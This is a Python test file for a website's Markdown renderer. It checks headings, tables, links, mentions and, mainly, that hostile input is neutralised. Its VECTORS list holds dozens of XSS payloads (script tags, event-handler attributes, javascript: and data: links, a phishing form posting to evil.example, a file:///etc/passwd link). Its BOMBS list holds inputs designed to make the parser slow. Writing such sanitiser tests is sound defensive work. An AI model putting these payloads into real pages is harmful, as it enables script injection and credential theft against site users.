"""Markdown: what it renders, what it refuses, and that hostile text costs no more than other text."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from itms_site.markdown import Reference, render


class Elements(HTMLParser):
    """Every element and attribute of a fragment, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def tags(self) -> set[str]:
        return {tag for tag, _ in self.found}


def test_it_works() -> None:
    html = render("Fix **this** and `that`:\n\n- one\n- two")
    assert "<strong>this</strong>" in html
    assert "<code>that</code>" in html
    assert html.count("<li>") == 2


@pytest.mark.parametrize("text", [None, "", "   ", "\n\n"])
def test_nothing_renders_as_nothing(text: str | None) -> None:
    assert render(text).strip() == ""


def test_a_line_break_is_kept() -> None:
    assert "<br" in render("first\nsecond")


def test_headings_leave_h1_and_h2_to_the_page() -> None:
    html = render("# One\n\n## Two\n\n### Three\n\n###### Six\n\nSetext\n===")
    assert Elements(html).tags() & {"h1", "h2"} == set()
    assert re.findall(r"<h(\d)", html) == ["3", "4", "5", "6", "3"]


def test_headings_begin_at_h3_and_leave_none_out() -> None:
    assert re.findall(r"<h(\d)", render("## One\n\n#### Two\n\n## Three")) == ["3", "4", "3"]


def test_a_table_scrolls_and_aligns_without_inline_style() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<div class="table-scroll" tabindex="0"><table>' in html
    assert '<td class="right">2</td>' in html
    assert "style" not in html


def test_task_items_are_named_and_cannot_be_changed() -> None:
    boxes = [attrs for tag, attrs in Elements(render("- [x] done\n- [ ] open")).found if tag == "input"]
    assert [box["aria-label"] for box in boxes] == ["Done", "To do"]
    assert all("disabled" in box and box["type"] == "checkbox" for box in boxes)


def test_code_is_coloured_by_classes() -> None:
    html = render("```python\ndef f():\n    return 1\n```")
    assert '<span class="k">def</span>' in html
    assert "style" not in html


@pytest.mark.parametrize("info", ["nosuchlanguage", '"><script>', "a" * 5000, "python\tx"])
def test_an_odd_language_is_plain_code_or_known(info: str) -> None:
    assert Elements(render(f"```{info}\nx = 1\n```")).tags() <= {"pre", "code", "span"}


def test_links_are_marked_as_written_by_users() -> None:
    html = render("[a](https://example.org) and https://example.org/x")
    links = [attrs for tag, attrs in Elements(html).found if tag == "a"]
    assert len(links) == 2
    assert all(link["rel"] == "noopener nofollow ugc" for link in links)


def test_file_names_are_not_web_sites() -> None:
    assert "<a" not in render("see README.md, node.js, example.com and me@example.org")


def test_images_become_links() -> None:
    html = render("![a shot](https://tracker.example/pixel.png)")
    assert "<img" not in html
    assert 'href="https://tracker.example/pixel.png"' in html
    assert ">a shot</a>" in html


def test_an_image_inside_a_link_is_its_text() -> None:
    html = render("[![build](https://x.example/b.svg)](https://x.example/)")
    assert html.count("<a ") == 1
    assert ">build</a>" in html


class TestReferences:
    @staticmethod
    def resolve(names: frozenset[str]) -> dict[str, Reference]:
        known = {
            "@ana": Reference("/people/ana/", "Ana Ruiz"),
            "ABC-12": Reference("/issues/ABC-12/", "A title <b>", "closed"),
        }
        return {name: known[name] for name in names & known.keys()}

    def test_it_works(self) -> None:
        html = render("@ana see ABC-12.", self.resolve)
        assert 'class="mention"' in html
        assert ">@ana</a>" in html
        assert 'class="ref ref-closed"' in html
        assert "/issues/ABC-12/" in html
        assert "<b>" not in html

    def test_unknown_ones_stay_text(self) -> None:
        assert "<a" not in render("@nobody and XYZ-1", self.resolve)

    @pytest.mark.parametrize(
        "text",
        [
            "`ABC-12`",
            "```\nABC-12 @ana\n```",
            "    ABC-12",
            "xABC-12",
            "ABC-12x",
            "ABC-012",
            "me@ana",
            "@ana@example.org",
            "/ABC-12",
        ],
    )
    def test_not_in_code_nor_inside_words(self, text: str) -> None:
        assert "<a" not in render(text, self.resolve)

    def test_not_inside_links(self) -> None:
        html = render("[ABC-12](https://example.org) https://example.org/ABC-12", self.resolve)
        assert "/issues/" not in html

    def test_it_is_asked_once_with_all_and_never_for_plain_text(self) -> None:
        asked: list[frozenset[str]] = []

        def resolve(names: frozenset[str]) -> dict[str, Reference]:
            asked.append(names)
            return {}

        render("@ana ABC-12 @ana\n\n- ABC-13", resolve)
        render("nothing here", resolve)
        assert asked == [frozenset({"@ana", "ABC-12", "ABC-13"})]

    def test_a_bad_address_of_a_resolver_is_refused(self) -> None:
        html = render("@ana", lambda names: {"@ana": Reference("javascript:alert(1)")})
        assert "javascript" not in html


VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<!-- --><script>alert(1)</script>",
    "<a name=body id=csrf>x</a>",
    '<div style="background:url(https://evil.example)">x</div>',
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    '![x](https://e.example/"onerror="alert(1))',
    '![x" onerror="alert(1)](https://e.example/x.png)',
    '[x](https://e.example "t" onmouseover="alert(1)")',
    '[x](https://e.example/"onmouseover=alert(1))',
    "https://e.example/'onmouseover='alert(1)",
    'https://e.example/"><script>alert(1)</script>',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"onload=alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "> [!NOTE]<script>alert(1)</script>\n> x",
    "- [x]<img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\0<script\0>alert(1)</script>",
    "{{ 7*7 }}{% raw %}",
]
HARMFUL = {"script", "style", "img", "svg", "math", "form", "iframe", "base", "meta", "object", "embed"}
ALLOWED_ATTRIBUTES = {
    "href", "rel", "title", "class", "tabindex", "type", "checked", "disabled", "aria-label", "start",
}  # fmt: skip


@pytest.mark.parametrize("text", VECTORS)
@pytest.mark.parametrize("wrap", ["{}", "> {}", "- {}", "**{}**", "# {}", "[y]({})"])
def test_hostile_text_gives_only_harmless_elements(text: str, wrap: str) -> None:
    for tag, attrs in Elements(render(wrap.format(text))).found:
        assert tag not in HARMFUL
        assert attrs.keys() <= ALLOWED_ATTRIBUTES, (tag, attrs)
        assert (attrs.get("type") or "checkbox") == "checkbox"
        scheme = re.match(r"\s*([a-z][a-z0-9+.\s-]*):", (attrs.get("href") or "").lower())
        assert scheme is None or scheme[1] in {"http", "https", "mailto"}, attrs


N = 65_535
BOMBS = {
    "brackets": "[" * N,
    "pairs": "[" * (N // 2) + "]" * (N // 2),
    "open links": "[a](" * (N // 4),
    "images": "![" * (N // 2),
    "quotes": ">" * N,
    "quoted lines": "\n".join(">" * n for n in range(360)),
    "stars": "*a **b" * (N // 6),
    "mixed emphasis": "*_~" * (N // 3),
    "ticks": "".join("`" * n + " " for n in range(360)),
    "wide table": "|".join("a" * 2000) + "\n" + "|".join(["-"] * 2000) + "\n" + "a\n" * 20_000,
    "nested lists": "- " * (N // 2),
    "definitions": "[a]: " * (N // 5),
    "addresses": "http://" * (N // 7),
    "brackets in an address": "http://a.b/" + "(" * N,
    "at signs": "a@" * (N // 2),
    "less than": "<a:" * (N // 3),
    "ampersands": "&" * N,
    "headings": "a\n" * (N // 2) + "=",
    "fences": "```\n" * (N // 4),
    "keys": "AA-1 " * (N // 5),
    "half keys": "A" * N + "-",
    "mentions": "@a" * (N // 2),
    "combining": "e" + "\u0301" * N,
    "python strings": "```python\n" + "f'" * 6000 + "\n```",
    "sql": "```sql\n" + "/*" * 6000 + "\n```",
    "html": "```html\n" + "<a " * 4000 + "\n```",
    "yaml": "```yaml\n" + "- &a" * 3000 + "\n```",
    "diff": "```diff\n" + "+\n" * 6000 + "\n```",
    "bash": "```bash\n" + "$(" * 6000 + "\n```",
}


@pytest.mark.parametrize("name", BOMBS)
def test_hostile_text_costs_bounded_time(name: str) -> None:
    def resolve(names: frozenset[str]) -> dict[str, Reference]:
        return {token: Reference("/x/") for token in names}

    started = time.process_time()
    render(BOMBS[name], resolve)
    assert time.process_time() - started < 2
